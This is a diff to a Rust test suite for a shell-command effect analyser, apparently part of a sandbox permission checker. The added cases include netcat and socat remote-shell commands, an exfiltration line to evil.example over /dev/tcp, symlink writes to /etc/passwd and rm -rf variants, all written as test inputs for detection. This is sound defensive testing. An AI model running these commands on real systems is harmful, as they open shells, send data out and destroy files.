@@ -23,11 +23,11 @@ fn context(cwd: &str) -> ShellContext {
     }
 }
 
-fn has_effect(analysis: &Analysis, wanted: &Effect) -> bool {
+fn has_effect(analysis: &Analysis, expected: &Effect) -> bool {
     analysis
         .sub_commands
         .iter()
-        .any(|sub| sub.effects.contains(wanted))
+        .any(|sub| sub.effects.contains(expected))
 }
 
 fn check_fact(analysis: &Analysis, fact: &str, line: &str) {
@@ -115,6 +115,9 @@ const CASES: &[(&str, &str, &str, &[&str], bool)] = &[
     ("exec rm -rf x", WORKTREE, "rm", &["match rm -rf *"], false),
     ("sudo env FOO=1 nice rm -rf x", WORKTREE, "rm", &["match rm -rf *"], false),
     ("echo x | xargs rm -rf", WORKTREE, "echo rm", &["match rm -rf *", "runs xargs"], true),
+    ("echo x | xargs -l -0 rm -rf", WORKTREE, "echo rm", &["match rm -rf *"], true),
+    ("echo x | xargs --replace rm -rf {}", WORKTREE, "echo rm", &["match rm -rf *"], true),
+    ("sudo -h rm -rf x", WORKTREE, "rm", &["match rm -rf *"], false),
     ("echo x | xargs echo", WORKTREE, "echo echo", &[], false),
     ("find . -exec rm -rf {} \\;", WORKTREE, "find rm", &["match rm -rf *", "write /w/job"], false),
     ("find /tmp -name '*.log' -delete", WORKTREE, "find", &["write /tmp", "read /tmp"], false),
@@ -223,6 +226,8 @@ const CASES: &[(&str, &str, &str, &[&str], bool)] = &[
     ("rsync -a src/ backup.example:/b/", WORKTREE, "rsync", &["net backup.example"], false),
     ("rsync -a src/ /tmp/copy", WORKTREE, "rsync", &["write /tmp/copy"], false),
     ("nc example.com 80", WORKTREE, "nc", &["net example.com"], false),
+    ("nc -l -p 4444 -e /bin/sh", WORKTREE, "nc", &[], true),
+    ("socat TCP:h.example:80 EXEC:sh", WORKTREE, "socat", &["net TCP:h.example:80"], true),
     ("git push", WORKTREE, "git", &["net origin", "match git push *"], false),
     ("git fetch upstream", WORKTREE, "git", &["net upstream"], false),
     ("git clone https://example.com/r.git", WORKTREE, "git", &["net https://example.com/r.git", "write /w/job/r"], false),
@@ -244,6 +249,23 @@ const CASES: &[(&str, &str, &str, &[&str], bool)] = &[
     ("rg TODO", WORKTREE, "rg", &["read /w/job"], false),
     ("rm -rf .*", WORKTREE, "rm", &["write /w"], false),
     ("rm -rf {a,../b}", WORKTREE, "rm", &[], true),
+    ("tar xzf a.tgz -C /tmp/out", WORKTREE, "tar", &["read /w/job/a.tgz", "write /tmp/out"], false),
+    ("tar -czf ../b.tgz src", WORKTREE, "tar", &["write /w/b.tgz", "read /w/job/src"], false),
+    ("tar -xPf a.tar", WORKTREE, "tar", &[], true),
+    ("tar --to-command=sh -xf a.tar", WORKTREE, "tar", &[], true),
+    ("gzip big.log", WORKTREE, "gzip", &["write /w/job/big.log"], false),
+    ("gunzip -c /tmp/a.gz", WORKTREE, "gunzip", &["read /tmp/a.gz", "nowrite /tmp/a.gz"], false),
+    ("unzip a.zip -d ~/x", WORKTREE, "unzip", &["read /w/job/a.zip", "write /home/u/x"], false),
+    ("zip -r /tmp/o.zip .", WORKTREE, "zip", &["write /tmp/o.zip", "read /w/job"], false),
+    ("find -L /etc -name passwd", WORKTREE, "find", &["read /etc"], false),
+    ("ls | xargs -I{} sh -c 'rm {}'", WORKTREE, "ls sh rm", &["runs xargs"], true),
+    ("ln -s /etc e && echo x > e/passwd", WORKTREE, "ln echo", &["write /w/job/e", "write /etc/passwd"], false),
+    ("ln -s ../.. up; cd up && touch x", WORKTREE, "ln cd touch", &["cd /", "write /x"], false),
+    ("ln /etc/hosts h && sed -i s/a/b/ h", WORKTREE, "ln sed", &["write /etc/hosts"], false),
+    ("mkdir d && ln -s /tmp d/ && touch d/tmp/f", WORKTREE, "mkdir ln touch", &["write /tmp/f"], false),
+    ("echo hi > /dev/tcp/evil.example/80", WORKTREE, "echo", &["net evil.example:80", "nowrite /dev/tcp/evil.example/80"], false),
+    ("patch -p1 < ../fix.diff", WORKTREE, "patch", &["read /w/fix.diff", "write /w/job"], false),
+    ("patch -d /etc -p0 -i fix.diff", WORKTREE, "patch", &["write /etc", "read /w/job/fix.diff"], false),
     ("git status && git diff", WORKTREE, "git git", &["read /w/job"], false),
     ("git commit -m 'x'", WORKTREE, "git", &["write /w/job"], false),
     ("git config core.hooksPath /tmp/h", WORKTREE, "git", &[], true),
@@ -361,13 +383,26 @@ fn malformed_input_is_opaque() {
     ];
     for input in inputs {
         let analysis = analyse(input, &context(WORKTREE));
-        assert!(analysis.is_opaque(), "`{input}` should be opaque\n{analysis:#?}");
+        assert!(
+            analysis.is_opaque(),
+            "`{input}` should be opaque\n{analysis:#?}"
+        );
     }
 }
 
 #[test]
 fn unicode_paths_are_kept() {
     let analysis = analyse("rm -rf ü/ñ && echo 🙂 > ☃", &context(WORKTREE));
-    assert!(has_effect(&analysis, &Effect::WritesFile { path: PathBuf::from("/w/job/ü/ñ") }));
-    assert!(has_effect(&analysis, &Effect::WritesFile { path: PathBuf::from("/w/job/☃") }));
+    assert!(has_effect(
+        &analysis,
+        &Effect::WritesFile {
+            path: PathBuf::from("/w/job/ü/ñ")
+        }
+    ));
+    assert!(has_effect(
+        &analysis,
+        &Effect::WritesFile {
+            path: PathBuf::from("/w/job/☃")
+        }
+    ));
 }
